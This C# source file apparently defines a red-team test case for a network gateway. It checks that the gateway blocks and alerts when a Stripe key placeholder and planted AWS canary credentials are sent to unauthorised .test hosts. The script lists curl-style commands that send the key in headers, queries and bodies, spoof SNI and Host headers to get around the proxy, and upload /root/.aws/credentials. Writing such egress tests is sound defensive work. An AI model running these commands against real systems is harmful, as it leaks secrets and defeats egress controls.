using Airlock.RedTeam.Cases.Network;
using Airlock.RedTeam.Model;

namespace Airlock.RedTeam.Cases.Governance;

/// <summary>
/// A secret's placeholder (STRIPE_KEY, hosts: [api.test], the real value in a host file) sent where it may not go:
/// pkgs.test in a header, the query and the body, through the proxy and around it; other.test; api.test's name at
/// pkgs.test's address (SNI and Host); and the planted AWS canaries. The battery's internet logs every request: the
/// real value must arrive at api.test's address only (the control shows it does), canaries nowhere, the placeholder
/// on no request the gateway inspects; the gateway must block and alert.
/// </summary>
internal static class SecretExfiltrationAttack
{
    public static IAttackCase Create() => new NetworkAttack
    {
        Category = Categories.Governance,
        Name = "secret-exfiltration",
        Attempts = "a secret's placeholder to pkgs.test (header, query, body; proxy and direct), to other.test, to pkgs.test's address under api.test's name; the AWS canaries to pkgs.test and api.test",
        Secret = true,
        Script = s => $$"""
            step secret_control $C -H "Authorization: Bearer $STRIPE_KEY" https://api.test/charge-{{s.Nonce}}
            step header_proxy $C -H "Authorization: Bearer $STRIPE_KEY" http://pkgs.test/leak-header-{{s.Nonce}}
            step header_direct noproxy $C -H "Authorization: Bearer $STRIPE_KEY" http://pkgs.test/leak-header-{{s.Nonce}}
            step query $C "http://pkgs.test/leak-query-{{s.Nonce}}?k=$STRIPE_KEY"
            step body $C -X POST --data "k=$STRIPE_KEY" http://pkgs.test/leak-body-{{s.Nonce}}
            step body_direct noproxy $C -X POST --data "k=$STRIPE_KEY" http://pkgs.test/leak-body-{{s.Nonce}}
            step tls_pkgs $C -H "Authorization: Bearer $STRIPE_KEY" https://pkgs.test/leak-tls-{{s.Nonce}}
            step other $C -H "Authorization: Bearer $STRIPE_KEY" https://other.test/leak-{{s.Nonce}}
            step api_sni_at_pkgs noproxy $C --resolve api.test:443:{{s.Pkgs}} -H "Authorization: Bearer $STRIPE_KEY" https://api.test/leak-front-{{s.Nonce}}
            step api_host_at_pkgs noproxy $C -H 'Host: api.test' -H "Authorization: Bearer $STRIPE_KEY" http://{{s.Pkgs}}/leak-front-{{s.Nonce}}
            step proxy_api_host_pkgs $C -H 'Host: pkgs.test' -H "Authorization: Bearer $STRIPE_KEY" http://api.test/leak-host-{{s.Nonce}}
            step canary_body $C -X POST --data "aws=$AWS_SECRET_ACCESS_KEY" http://pkgs.test/leak-canary-{{s.Nonce}}
            step canary_api $C --data-binary @/root/.aws/credentials https://api.test/leak-canary-{{s.Nonce}}
            """,
        Denials = _ => [("a block by rule secret:STRIPE_KEY", d => d.GetValueOrDefault("rule") == "secret:STRIPE_KEY")],
        Alerts = ["secret_exfiltration", "canary"],
    };
}
